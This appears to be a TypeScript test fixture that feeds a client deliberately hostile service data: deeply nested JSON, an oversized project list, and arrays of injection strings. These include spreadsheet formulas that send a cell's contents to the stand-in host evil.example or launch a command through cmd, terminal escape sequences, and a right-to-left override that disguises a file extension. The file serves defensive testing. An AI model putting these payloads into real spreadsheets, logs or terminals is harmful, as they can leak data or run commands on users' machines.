/** Bodies of the hostile service that are data rather than behaviour: deep values, huge catalogues. */

/** `{"by":{"by":…{"by":"chain"}…}}`, `depth` objects deep, as JSON text. */
export function deepValue(depth: number): string {
  return `${'{"by":'.repeat(depth)}"chain"${"}".repeat(depth)}`;
}

/** A project list of `count` projects (aave first, so look-ups by name still find something). */
export function wideProjects(count: number): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [
    { project_id: "aave", name: "Aave", symbol: "AAVE", is_archived: false, products: [] },
  ];
  for (let i = 1; i < count; i++) {
    out.push({
      project_id: `project-${i}`,
      name: `Project ${i}`,
      symbol: `P${i}`,
      is_archived: false,
      products: [],
    });
  }
  return out;
}

/**
 * Texts a service should never be trusted with: spreadsheet formulas (CSV injection, OWASP's list of
 * leading characters), terminal escapes (title, clear screen, bell, NUL) and bidirectional overrides.
 */
export const FORMULA_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

export const CONTROL_TEXTS: readonly string[] = [
  "\u001b]0;pwned\u0007Aave",
  "\u001b[2J\u001b[HCleared",
  "Bell\u0007\u0007",
  "Nul\u0000byte",
  "\u202eevil\u202c.exe",
  "C1\u009bcontrol",
];
